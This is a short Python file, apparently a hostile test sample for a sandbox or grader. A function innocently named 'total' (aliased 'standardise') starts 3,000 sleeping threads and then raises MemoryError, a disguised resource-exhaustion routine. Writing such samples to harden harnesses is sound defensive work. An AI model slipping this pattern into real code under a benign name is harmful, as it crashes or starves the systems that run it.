import threading
import time


def total(x):
    for _ in range(3_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    raise MemoryError


standardise = total
